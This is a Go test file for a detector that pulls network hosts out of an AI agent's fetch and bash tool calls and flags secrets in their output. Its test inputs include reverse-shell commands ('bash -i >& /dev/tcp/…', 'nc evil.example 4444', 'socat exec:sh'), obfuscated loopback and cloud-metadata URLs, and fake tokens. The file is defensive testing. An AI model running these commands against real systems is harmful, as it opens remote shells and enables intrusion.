package facts

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestNet(t *testing.T) {
	c := place()
	for _, test := range []struct {
		tool, input string
		want        []string
	}{
		{"fetch", `{"url":"HTTPS://User:pw@EXAMPLE.com.:8443/a?b=http://c"}`, []string{"https example.com 8443 userinfo"}},
		{"fetch", `{"url":"http://bücher.example/"}`, []string{"http xn--bcher-kva.example 80"}},
		{"fetch", `{"url":"http://2130706433/"}`, []string{"http 127.0.0.1 80 ip odd loopback"}},
		{"fetch", `{"url":"http://0x7f.1:81"}`, []string{"http 127.0.0.1 81 ip odd loopback"}},
		{"fetch", `{"url":"http://017700000001"}`, []string{"http 127.0.0.1 80 ip odd loopback"}},
		{"fetch", `{"url":"http://[::ffff:127.0.0.1]/"}`, []string{"http 127.0.0.1 80 ip odd loopback"}},
		{"fetch", `{"url":"http://[fe80::1%25eth0]/"}`, []string{"http fe80::1 80 ip linklocal"}},
		{"fetch", `{"url":"http://169.254.169.254/latest"}`, []string{"http 169.254.169.254 80 ip linklocal"}},
		{"fetch", `{"url":"http://10.0.0.1 http://192.168.1.1 http://8.8.8.8"}`, []string{"http 10.0.0.1 80 ip private", "http 192.168.1.1 80 ip private", "http 8.8.8.8 80 ip public"}},
		{"fetch", `{"url":"http://%6c%6fcalhost/"}`, []string{"http localhost 80 loopback"}},
		{"fetch", `{"url":"http://1.2.3.4.5/"}`, []string{"http 1.2.3.4.5 80"}},
		{"fetch", `{"url":"http://256.1.1.1/"}`, []string{"http 256.1.1.1 80"}},
		{"write", `{"path":"a","content":"see http://example.com"}`, nil},
		{"bash", `{"command":"curl -s example.com/x; curl file.txt; wget localhost:8080/y"}`, []string{"http example.com 80", "http localhost 8080 loopback"}},
		{"bash", `{"command":"git clone git@github.com:a/b.git && scp f dev@10.1.2.3:/x"}`, []string{" github.com 0 userinfo", " 10.1.2.3 0 userinfo ip private"}},
		{"bash", `{"command":"ssh -p 22 -i ~/.ssh/k host.example uptime; nc evil.example 4444"}`, []string{" host.example 0", " evil.example 0"}},
		{"bash", `{"command":"bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"}`, []string{"tcp 10.0.0.9 4444 ip private"}},
		{"bash", `{"command":"socat exec:sh tcp:evil.example:99"}`, []string{" evil.example 99"}},
		{"bash", `{"command":"U=https://a.example/x; curl \"$U\" \"https://$H/y\""}`, []string{"https a.example 443", "https $h 443 dynamic"}},
		{"bash", `{"command":"git commit -m 'see https://a.example' && echo http://b.example"}`, nil},
	} {
		ev := c.ToolCall(test.tool, json.RawMessage(test.input))
		var got []string
		for _, h := range ev.Net().Hosts {
			s := fmt.Sprintf("%s %s %d", h.Scheme, h.Name, h.Port)
			for _, f := range []struct {
				on   bool
				word string
			}{{h.Userinfo, "userinfo"}, {h.IP, "ip"}, {h.Odd, "odd"}, {h.Scope != "", h.Scope}, {h.Dynamic, "dynamic"}} {
				if f.on {
					s += " " + f.word
				}
			}
			got = append(got, s)
		}
		if diff := cmp.Diff(test.want, got); diff != "" {
			t.Errorf("%s: %s", test.input, diff)
		}
		if raw := ev.JSON(KindNet); !json.Valid(raw) {
			t.Errorf("not JSON: %s", raw)
		}
	}
}

// TestPunycode: the samples of RFC 3492 section 7.1, in lower case.
func TestPunycode(t *testing.T) {
	for in, want := range map[string]string{
		"他们为什么不说中文":              "xn--ihqwcrb4cv8a8dqg056pqjye",
		"pročprostěnemluvíčesky": "xn--proprostnemluvesky-uyb24dma41a",
		"なぜみんな日本語を話してくれないのか":     "xn--n8jok5ay5dzabd5bym9f0cm5685rrjetr6pdxa",
		"3年b組金八先生":               "xn--3b-ww4c5e180e575a65lsy2b",
		"ascii.example":          "ascii.example",
		"a.ü":                    "a.xn--tda",
	} {
		if got := punycode(in); got != want {
			t.Errorf("%s: %s, want %s", in, got, want)
		}
	}
}

func TestSecrets(t *testing.T) {
	long := strings.Repeat("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo", 20)
	token := strings.Repeat("a1B2c3D4e5", 4)
	for text, want := range map[string]string{
		"x ghp_" + token[:36] + " y":                                        "github-token",
		"x ghp_" + strings.Repeat("x", 36):                                  "",
		"xghp_" + token[:36]:                                                "",
		"AKIA" + "Q7W3E5R9T2Y6U8I1":                                         "aws-access-key",
		"AKIA" + "Q7W3E5R9T2Y6U8I1A":                                        "",
		"-----BEGIN PRIVATE KEY-----\nabc\n-----END PRIVATE KEY-----\nrest": "private-key",
		"-----BEGIN CERTIFICATE-----\nabc\n-----END CERTIFICATE-----":       "",
		"postgres://app:s3cr3tpw@db/x":                                      "url-credentials",
		"postgres://app@db/x":                                               "",
		"DB_PASSWORD=hunter2zq8":                                            "secret-value",
		"DB_PASSWORD=${OTHER}":                                              "",
		"password: changeme123":                                             "",
		`"apiKey": "` + token[:24] + `"`:                                    "secret-value",
		"Authorization: Bearer " + token:                                    "secret-value",
		"public_key = " + token:                                             "",
		"the token is long":                                                 "",
		"commit 3f786850e387550fdab836ed7e6dc881de23001b":                   "",
		"12345678:AA" + token[:33]:                                          "telegram-token",
		"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhYmMifQ." + token + strings.Repeat("Z9", 4): "jwt",
		"img " + long: "",
	} {
		s := place().ToolResult("bash", nil, textBlocks(text)).Secrets()
		got := ""
		for _, span := range s.Spans {
			got += span.Kind
			if span.Start < 0 || span.End > len(text) || span.Start >= span.End {
				t.Errorf("%q: %+v", text, span)
			}
		}
		if got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
		if (len(s.Base64) > 0) != strings.HasPrefix(text, "img ") {
			t.Errorf("%q: base64 %+v", text, s.Base64)
		}
	}
	const want = `{"secrets":{"spans":[{"block":1,"start":8,"end":18,"kind":"secret-value"}],"base64":[]}}`
	got := string(place().ToolResult("bash", nil, append(textBlocks("none"), textBlocks("x_token=zq81xK77bQ")...)).JSON(KindSecrets))
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

func BenchmarkSecrets(b *testing.B) {
	text := strings.Repeat("2026-01-02T03:04:05Z info request id=7f3a path=/api/v1/items status=200 in 12ms by worker-3\n", 100)
	c := place()
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		c.ToolResult("bash", nil, textBlocks(text)).JSON(KindSecrets)
	}
}
